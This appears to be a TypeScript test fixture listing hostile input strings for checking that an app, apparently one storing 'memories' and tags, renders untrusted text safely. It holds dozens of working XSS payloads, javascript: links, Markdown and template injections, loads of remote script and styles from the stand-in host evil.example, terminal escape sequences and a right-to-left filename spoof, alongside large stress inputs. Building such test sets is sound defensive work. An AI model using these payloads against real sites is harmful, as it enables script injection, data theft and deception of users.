/**
 * Texts that try to be more than text. Each of them would call `__xss` if anything in it ran, asks for something at
 * `evil.example`, or tries to break the page's layout or to look like another text.
 */

const ESC = '\u001b';

export const HOSTILE_TEXTS: readonly string[] = [
  // Scripts
  '<script>__xss(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>__xss(3)</script>',
  "'-__xss(4)-'",
  '</title><script>__xss(5)</script>',
  '</textarea><script>__xss(6)</script>',
  '<scr<script>ipt>__xss(7)</scr</script>ipt>',
  '<script type="module">import "https://evil.example/m.js"</script>',
  // Elements that run something when they are made
  '<img src=x onerror=__xss(9)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=__xss(11)>',
  '<svg><script>__xss(12)</script></svg>',
  '<svg><animate onbegin=__xss(13) attributeName=x dur=1s>',
  '<body onload=__xss(14)>',
  '<iframe srcdoc="<script>parent.__xss(15)</script>"></iframe>',
  '<iframe src="javascript:parent.__xss(16)"></iframe>',
  '<details open ontoggle=__xss(17)>',
  '<input autofocus onfocus=__xss(18)>',
  '<video><source onerror=__xss(19)></video>',
  '<math><mi xlink:href="javascript:__xss(20)">x</mi></math>',
  '<object data="javascript:__xss(21)"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<link rel=stylesheet href="https://evil.example/s.css">',
  '<style>@import "https://evil.example/i.css"; body{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus>x</button></form>',
  '<a href="javascript:__xss(28)">here</a>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(29)>">',
  '<template><img src=x onerror=__xss(30)></template>',
  // Links and Markdown
  'javascript:__xss(31)//',
  'JaVaScRiPt:__xss(32)',
  'data:text/html,<script>__xss(33)</script>',
  '[click](javascript:__xss(34))',
  '![alt](https://evil.example/md.png)',
  '![x](x"onerror="__xss(36))',
  '[ref]: javascript:__xss(37)',
  '<https://evil.example/auto>',
  '```html\n<script>__xss(39)</script>\n```',
  '```"><img src=x onerror=__xss(40)>\ncode\n```',
  '`<img src=x onerror=__xss(41)>`',
  // Entities and templates
  '&lt;script&gt;__xss(42)&lt;/script&gt;',
  '&#60;img src=x onerror=__xss(43)&#62;',
  '\\u003cscript\\u003e__xss(44)\\u003c/script\\u003e',
  '{{constructor.constructor("__xss(45)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that must not be filled in.
  '${__xss(46)}',
  '<%= __xss(47) %>',
  '#{__xss(48)}',
  '{"__html":"<img src=x onerror=__xss(49)>"}',
  // Terminals, directions, characters that cannot be seen
  `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}]0;title\u0007`,
  `${ESC}]8;;https://evil.example/${ESC}\\link${ESC}]8;;${ESC}\\`,
  'invoice\u202Egpj.exe',
  '\u202Dleft\u202C and \u202Bright\u202C',
  'שלום <b>עולם</b> مرحبا',
  'bell\u0007 backspace\u0008 delete\u007f vertical\u000b',
  'line one\r\nline two\rline three\u2028line four',
  // Nothing but shape
  '👨‍👩‍👧‍👦'.repeat(40),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  'W'.repeat(500),
  '\u00a0\u3000 spaces of all kinds \u2003',
];

/** A word of 100 kB without a place to break it. */
export const LONG_WORD = 'Donaudampfschiff'.repeat(6250);

/** A megabyte of text in lines. */
export const MEGABYTE = `${'All work and no play makes a dull memory. '.repeat(8)}\n`.repeat(3200);

/** As many tags as one memory may carry. */
export const TEN_THOUSAND_TAGS = Array.from({ length: 10_000 }, (_, index) => `tag-${index}-<b>`);

/** As the API takes an id or a tag: no control characters, no spaces around, not too long. */
export function asId(text: string, length: number): string {
  return text
    .replaceAll(/\p{Cc}|\u2028/gu, ' ')
    .slice(0, length)
    .toWellFormed()
    .trim();
}
